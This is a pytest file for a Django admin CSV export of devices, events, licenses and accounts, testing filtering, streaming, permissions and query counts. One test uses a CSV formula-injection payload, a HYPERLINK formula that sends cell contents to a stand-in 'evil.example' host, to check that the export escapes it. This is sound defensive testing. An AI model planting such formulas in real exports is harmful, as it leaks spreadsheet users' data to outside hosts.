"""CSV export of the admin's lists: exactly the filtered rows, streamed, and safe to open in a spreadsheet."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission, User
from django.http import StreamingHttpResponse
from django.test import Client
from django.urls import reverse

from devices.models import Device, DeviceEvent
from licensing.models import License
from tests.factories import AccountFactory, DeviceFactory
from tests.licensing.conftest import make_license

pytestmark = pytest.mark.django_db


def exported(client, list_name: str, query: dict | None = None) -> list[dict]:
    response = client.get(reverse(f"admin:{list_name}_export"), query or {})
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_devices_export_exactly_the_filtered_and_searched_rows(admin_client):
    # given
    owner = AccountFactory(login="owner@example.com")
    wanted = DeviceFactory(type="mediaagent", mac="A1B2C3D4E5F6", name="lobby", account=owner, active=True)
    DeviceFactory(type="mediaagent", mac="A1B2C3D4E5F7")  # available, not active
    DeviceFactory(type="camera", active=True)  # another type
    # when
    rows = exported(admin_client, "devices_device", {"status__exact": "active", "type": "mediaagent"})
    searched = exported(admin_client, "devices_device", {"q": "a1-b2-c3-d4-e5-f6"})
    # then
    assert [row["uuid"] for row in rows] == [str(wanted.uuid)] == [row["uuid"] for row in searched]
    assert rows[0] | {"created_at": "", "updated_at": "", "last_seen_at": ""} == {
        "uuid": str(wanted.uuid),
        "type": "mediaagent",
        "mac": "A1:B2:C3:D4:E5:F6",
        "serial_number": wanted.serial_number or "",
        "name": "lobby",
        "version": wanted.version,
        "status": "active",
        "owner": "owner@example.com",
        "is_banned": "false",
        "ban_reason": "",
        "is_online": "false",
        "last_seen_at": "",
        "created_at": "",
        "updated_at": "",
    }


def test_the_list_offers_the_export_of_what_it_shows(admin_client):
    page = admin_client.get(reverse("admin:devices_device_changelist"), {"status__exact": "active"})
    assert f'href="{reverse("admin:devices_device_export")}?status__exact=active"' in page.content.decode()


def test_an_export_writes_no_cell_a_spreadsheet_would_run_as_a_formula(admin_client):
    DeviceFactory(name='=HYPERLINK("https://evil.example/?"&A1,"open")', version="+1")
    (row,) = exported(admin_client, "devices_device")
    assert row["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"open")'
    assert row["version"] == "'+1"


def test_events_licenses_and_accounts_export_their_filtered_rows(admin_client):
    # given
    device = DeviceFactory(mac="0A0B0C0D0E0F")
    admin_client.post(
        reverse("admin:devices_device_changelist"),
        {"action": "ban", "_selected_action": [device.pk], "reason": "chargeback"},
    )
    DeviceFactory()
    owner = AccountFactory(login="pool@example.com")
    kept, _ = make_license(account=owner, reference="order-1"), make_license(reference="order-2")
    # when
    events = exported(admin_client, "devices_deviceevent", {"q": "0a:0b:0c:0d:0e:0f"})
    licenses = exported(admin_client, "licensing_license", {"q": "order-1"})
    accounts = exported(admin_client, "devices_account", {"q": "pool@"})
    # then
    assert [(e["device_mac"], e["action"], e["details"]) for e in events] == [
        ("0A:0B:0C:0D:0E:0F", "banned", '{"reason": "chargeback"}')
    ]
    assert [(k["key"], k["account"]) for k in licenses] == [(kept.key, "pool@example.com")]
    assert [a["login"] for a in accounts] == ["pool@example.com"]


@pytest.mark.parametrize("devices", [3, 30])
def test_the_export_reads_its_rows_once_and_neither_counts_nor_pages_them(
    admin_client, django_assert_num_queries, devices
):
    DeviceFactory.create_batch(devices, account=AccountFactory())
    # The session, the user, the type filter's choices, the rows: no count and no page of the list.
    with django_assert_num_queries(4) as captured:
        assert len(exported(admin_client, "devices_device")) == devices
    assert "COUNT(" not in captured.captured_queries[-1]["sql"].upper()


def test_parameters_the_list_cant_apply_send_back_to_the_list(admin_client):
    response = admin_client.get(reverse("admin:devices_device_export"), {"no_such_field": "1"})
    assert response.status_code == 302
    assert response["Location"] == reverse("admin:devices_device_changelist") + "?e=1"


def test_the_export_is_for_staff_who_may_view_the_model():
    # given
    DeviceFactory()
    viewer = User.objects.create_user("viewer", password="x", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_device"))
    stranger = User.objects.create_user("stranger", password="x", is_staff=True)
    viewer_client, stranger_client = Client(), Client()
    viewer_client.force_login(viewer)
    stranger_client.force_login(stranger)
    # when / then
    assert len(exported(viewer_client, "devices_device")) == 1
    assert stranger_client.get(reverse("admin:devices_device_export")).status_code == 403
    assert Client().get(reverse("admin:devices_device_export")).status_code == 302  # to the login
    assert Device.objects.count() == 1 and not DeviceEvent.objects.exists() and not License.objects.exists()
